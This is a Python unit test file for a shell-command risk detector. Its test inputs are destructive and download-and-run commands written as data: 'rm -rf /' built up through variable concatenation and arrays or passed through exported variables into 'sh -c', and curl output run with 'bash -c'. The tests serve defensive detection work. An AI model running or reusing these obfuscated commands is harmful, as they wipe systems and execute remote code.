"""Variables that a text sets."""

from __future__ import annotations

from riskproof.detect.shell import analyse
from tests.unit.detect.reading import DAMAGE, DOWNLOAD, NETWORK, RECURSIVE, categories


def test_a_value_can_be_built_piece_by_piece() -> None:
    assert categories('C=r; C+=m; C+=" -rf /"; $C') == [DAMAGE, RECURSIVE]
    assert categories("x=(rm); x+=(-rf /); ${x[@]}") == [DAMAGE, RECURSIVE]


def test_a_downloaded_value_stays_downloaded() -> None:
    assert categories('X=$(curl -s https://a.test); bash -c "$X"') == [DOWNLOAD, NETWORK]


def test_exported_and_prefixed_values_reach_inner_texts() -> None:
    assert categories("export T=/; sh -c 'rm -rf $T'") == [DAMAGE, RECURSIVE]
    assert categories("T=/ sh -c 'rm -rf $T'") == [DAMAGE, RECURSIVE]


def test_values_that_double_again_and_again_are_cut() -> None:
    text = "A=xxxxxxxx;" + "".join(f'{chr(66 + k)}="${chr(65 + k)}${chr(65 + k)}";' for k in range(24)) + "echo $Z"
    assert analyse(text).findings == ()
